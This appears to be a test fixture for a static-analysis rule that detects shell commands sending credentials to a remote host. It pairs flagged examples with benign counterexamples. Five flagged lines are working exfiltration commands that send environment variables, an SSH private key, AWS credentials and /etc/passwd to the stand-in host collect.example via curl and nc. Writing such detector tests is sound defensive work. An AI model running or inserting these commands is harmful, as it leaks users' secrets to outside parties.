#!/bin/bash
# ruleid: shell-credentials-sent
env | curl -sd @- https://collect.example/
# ruleid: shell-credentials-sent
curl -d "$(printenv)" https://collect.example/
# ruleid: shell-credentials-sent
curl -F key=@$HOME/.ssh/id_rsa https://collect.example/
# ruleid: shell-credentials-sent
tar cz ~/.aws/ | nc collect.example 9
# ruleid: shell-credentials-sent
cat /etc/passwd | base64 | curl -d @- https://collect.example/
# ok: shell-credentials-sent
env | grep PATH
# ok: shell-credentials-sent
curl -d @body.json https://api.example/
# ok: shell-credentials-sent
scp -i ~/.ssh/id_ed25519 f host.example:
# ok: shell-credentials-sent
cat ~/.aws/config
